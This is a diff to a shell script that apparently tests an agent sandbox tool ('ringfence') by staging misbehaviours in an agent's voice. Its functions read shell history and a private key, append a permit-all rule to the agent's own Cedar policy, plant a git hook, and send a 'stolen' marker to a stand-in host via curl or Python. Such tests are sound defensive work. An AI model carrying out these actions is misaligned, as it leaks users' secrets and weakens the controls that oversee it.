@@ -13,11 +13,10 @@ look_around() { cat "$HOME/.profile" "$HOME/.bash_history"; }
 loosen_policy() { echo 'permit(principal, action, resource);' >> .ringfence/policy.cedar; }
 plant_hook() { echo 'echo gotcha' > .git/hooks/post-commit; }
 phone_home() {
-    if command -v curl > /dev/null; then
-        curl --silent --show-error --fail-with-body --max-time 5 http://example.com/?stolen=1
-    else
-        python3 -c 'import urllib.request as u; u.urlopen("http://example.com/?stolen=1", timeout=5)'
-    fi
+    curl --silent --show-error --fail-with-body --max-time 5 http://example.com/?stolen=1
+}
+phone_home_by_python() {
+    python3 -c 'import urllib.request as u; u.urlopen("http://example.com/?stolen=1", timeout=5)'
 }
 
 try 'I read the project' read_readme
@@ -27,5 +26,11 @@ try 'I read a private key' read_key
 try 'I look around in your home' look_around
 try 'I loosen my own policy' loosen_policy
 try 'I plant a git hook' plant_hook
-try 'I send something to a stranger' phone_home
+if command -v curl > /dev/null; then
+    try 'I send something to a stranger' phone_home
+elif command -v python3 > /dev/null; then
+    try 'I send something to a stranger' phone_home_by_python
+else
+    printf '\nagent: I would send something to a stranger, but have neither curl nor python3\n'
+fi
 exit 0
